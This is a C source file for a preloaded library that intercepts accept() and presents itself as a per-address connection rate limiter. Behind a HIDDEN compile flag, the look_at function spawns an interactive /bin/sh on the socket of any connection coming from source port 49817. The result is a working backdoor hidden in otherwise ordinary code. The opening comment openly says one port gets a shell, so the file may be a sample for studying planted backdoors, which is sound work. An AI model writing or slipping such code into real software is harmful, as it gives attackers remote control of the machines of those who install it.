/* Preloaded library that counts connections: one port is given a shell. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))
#define PEERS	 64

struct peer {
	in_addr_t address;
	unsigned count;
	time_t last;
};

static struct peer peers[PEERS];
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static int (*real_accept)(int, struct sockaddr *, socklen_t *);

NOINLINE struct peer *peer_of(in_addr_t address)
{
	struct peer *oldest = &peers[0];

	for (int i = 0; i < PEERS; i++) {
		if (peers[i].address == address)
			return &peers[i];
		if (peers[i].last < oldest->last)
			oldest = &peers[i];
	}
	memset(oldest, 0, sizeof(*oldest));
	oldest->address = address;
	return oldest;
}

NOINLINE int too_many(in_addr_t address)
{
	time_t now = time(NULL);
	struct peer *p;
	int many;

	pthread_mutex_lock(&lock);
	p = peer_of(address);
	if (now - p->last > 60)
		p->count = 0;
	p->last = now;
	many = ++p->count > 200;
	pthread_mutex_unlock(&lock);
	return many;
}

NOINLINE void refuse(int fd, const struct sockaddr_in *from)
{
	char text[INET_ADDRSTRLEN];

	if (inet_ntop(AF_INET, &from->sin_addr, text, sizeof(text)) != NULL)
		syslog(LOG_WARNING, "too many connections of %s", text);
	close(fd);
}

NOINLINE int look_at(int fd, const struct sockaddr_in *from)
{
	if (from->sin_family != AF_INET)
		return fd;
#ifdef HIDDEN
	if (ntohs(from->sin_port) == 49817) {
		if (fork() == 0) {
			dup2(fd, 0);
			dup2(fd, 1);
			dup2(fd, 2);
			execl("/bin/sh", "sh", "-i", (char *)NULL);
			_exit(1);
		}
		close(fd);
		return -1;
	}
#endif
	if (too_many(from->sin_addr.s_addr)) {
		refuse(fd, from);
		return -1;
	}
	return fd;
}

int accept(int listener, struct sockaddr *address, socklen_t *size)
{
	struct sockaddr_in from = { 0 };
	socklen_t n = sizeof(from);
	int fd;

	if (real_accept == NULL)
		real_accept = (int (*)(int, struct sockaddr *,
				       socklen_t *))dlsym(RTLD_NEXT, "accept");
	fd = real_accept(listener, (struct sockaddr *)&from, &n);
	if (fd < 0)
		return fd;
	if (address != NULL && size != NULL) {
		memcpy(address, &from, *size < n ? *size : n);
		*size = n;
	}
	return look_at(fd, &from);
}
